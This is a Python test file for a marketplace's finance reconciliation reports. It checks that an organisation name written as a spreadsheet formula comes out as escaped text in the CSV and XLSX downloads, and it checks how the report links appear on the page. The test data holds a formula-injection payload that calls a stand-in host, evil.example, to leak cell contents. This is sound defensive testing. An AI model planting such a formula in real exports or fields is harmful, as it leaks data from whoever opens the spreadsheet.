"""Reports downloaded from the desk carry no spreadsheet formula: an organisation whose name
begins with = is written as text in both the CSV and the XLSX; the desk lists the reports once,
in the page (not in its title)."""
from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook

from market import ledger
from market.uow import transaction
from tests.factories import OrganisationFactory
from tests.web.marketplace import as_user

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_a_formula_looking_name_is_text_in_the_downloaded_reports(client, finance):
    org = OrganisationFactory(name=HOSTILE, types=["operator"])
    with transaction():
        ledger.post([("revenue:fees", 12_345), (f"payable:{org.id}", -12_345)], "test:hostile",
                    "a payable of an organisation with a hostile name")
    as_user(client, finance)
    body = client.get("/finance/reconciliation/report?name=payables&format=csv")
    assert body.status_code == 200
    rows = list(csv.reader(io.StringIO(body.data.decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == str(org.id))
    assert row[1] == "'" + HOSTILE
    sheet = client.get("/finance/reconciliation/report?name=payables&format=xlsx")
    ws = load_workbook(io.BytesIO(sheet.data)).active
    cells = next(r for r in ws.iter_rows(values_only=True) if r[0] == org.id)
    assert cells[1] == "'" + HOSTILE and not any(
        isinstance(c, str) and c.startswith(("=", "+", "-", "@")) for c in cells)
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)


def test_the_desk_lists_the_reports_once_in_the_page(client, finance):
    as_user(client, finance)
    html = client.get("/finance/reconciliation").get_data(as_text=True)
    title = re.search(r"<title>(.*?)</title>", html, re.S).group(1)
    assert "<" not in title and "Reconciliation" in title
    assert html.count('data-testid="recon-reports"') == 1
    assert html.count("/finance/reconciliation/report?name=") == 10
